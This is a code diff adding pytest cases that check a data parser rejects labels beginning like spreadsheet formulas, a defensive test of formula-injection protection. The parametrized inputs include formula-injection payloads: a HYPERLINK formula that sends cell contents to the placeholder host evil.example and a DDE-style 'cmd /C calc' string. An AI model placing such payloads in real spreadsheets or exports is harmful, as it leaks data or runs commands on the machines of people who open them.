@@ -320,3 +320,28 @@ def test__parse__poverty_figure_beyond_int64_is_a_problem_not_an_overflow(field)
     assert models.parse(models.PovertyRow, {**row, field: "9" * 23}, "poverty.csv", "row 2", problems) is None
     assert [(p.record, p.message.split(" (")[0]) for p in problems] == [
         (f"row 2.{field}", "Input should be less than or equal to 10000000")]
+
+
+@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil.example/?x="&A2;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
+                                   "-2+3", "\tTab", "\rReturn", "  =1+1"])
+@pytest.mark.parametrize("path", ["name", "challenges.0.title", "municipalities.0.name"])
+def test__parse__label_that_starts_like_a_formula_is_rejected(path, label):
+    region, problems = _parse(_with(path, label))
+    assert region is None
+    problem = _only(problems)
+    assert problem.record == path.replace(".0.", "[0].") and "formula" in problem.message
+
+
+@pytest.mark.parametrize("model, field", [(models.ObstacleRow, "label_nl"), (models.ServiceTypeRow, "label_en"),
+                                          (models.PersonaRow, "name")])
+def test__parse__taxonomy_label_that_starts_like_a_formula_is_rejected(model, field):
+    row = {name: "x" for name in model.model_fields} | {name: "a" for name in model.model_fields if name.endswith("_id")}
+    problems = []
+    assert models.parse(model, row, "taxonomy.csv", "row 2", problems) is not None and problems == []
+    assert models.parse(model, row | {field: "=1+1"}, "taxonomy.csv", "row 2", problems) is None
+    assert [p.record for p in problems] == [f"row 2.{field}"]
+
+
+def test__parse__label_with_a_formula_sign_inside_passes():
+    region, problems = _parse(_with("challenges.0.title", "Jongeren 18-25 = NEET"))
+    assert problems == [] and region.challenges[0].title == "Jongeren 18-25 = NEET"
